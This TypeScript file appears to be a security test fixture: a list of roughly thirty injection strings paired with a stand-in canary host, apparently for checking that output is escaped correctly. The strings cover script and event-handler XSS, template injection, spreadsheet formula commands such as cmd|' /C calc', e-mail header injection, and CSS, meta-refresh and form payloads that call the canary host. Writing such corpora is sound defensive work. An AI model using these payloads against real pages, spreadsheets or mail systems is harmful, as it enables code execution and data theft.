/** The host that an attack would send data to; it does not exist. */
export const CANARY = 'https://canary.example'

/**
 * Texts that run, load or mislead if they are written unescaped into a page, document, e-mail or table.
 * Scripts call `caught`; elements are marked `data-caught`.
 */
export const XSS_CORPUS: string[] = [
  '<script>caught(1)</script>',
  '"><img src=x onerror=caught(2) data-caught>',
  "'><svg onload=caught(3) data-caught>",
  'javascript:caught(4)',
  '</script><script>caught(5)</script>',
  '</title></textarea></style><script>caught(6)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would run.
  "{{constructor.constructor('caught(7)')()}}${caught(7)}<%=caught(7)%>",
  '" autofocus onfocus=caught(8) data-caught x="',
  "' onmouseover='caught(9)' data-caught='",
  '[gift](javascript:caught(10)) ![x](https://canary.example/10)',
  '=HYPERLINK("https://canary.example/11","Gift")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|calc',
  'A\r\nBcc: canary@canary.example\r\n\r\n<script>caught(15)</script>',
  '\u202e<script>caught(16)</script>\u2066\u200b',
  '<style>@import "https://canary.example/17";*{display:none}</style>',
  'red;background:url(https://canary.example/18);x:expression(caught(18))',
  '<iframe data-caught srcdoc="<script>parent.caught(19)</script>">',
  '&lt;script&gt;caught(20)&lt;/script&gt;&#60;img src=x onerror=caught(20)&#62;',
  '\u2028\u2029</script><svg/onload=caught(21) data-caught>',
  '<!--<script>caught(22)//--><a href="javascript:caught(22)" data-caught>',
  '\uff1cscript\uff1ecaught(23)\uff1c/script\uff1e',
  '<math><mtext><table><mglyph><style><!--</style><img data-caught src onerror=caught(24)>',
  '%3Cscript%3Ecaught(25)%3C/script%3E%22%3E',
  '<base href=https://canary.example/><link rel=stylesheet href=https://canary.example/26>',
  '<meta http-equiv=refresh content="0;url=https://canary.example/27">',
  '<form action=https://canary.example/28 data-caught><input name=x></form>',
  ')/S/JavaScript/JS(app.alert(29))>>endobj<</A<</S/URI/URI(https://canary.example/29)',
  'A\r\nATTACH:https://canary.example/30\r\nEND:VEVENT',
]
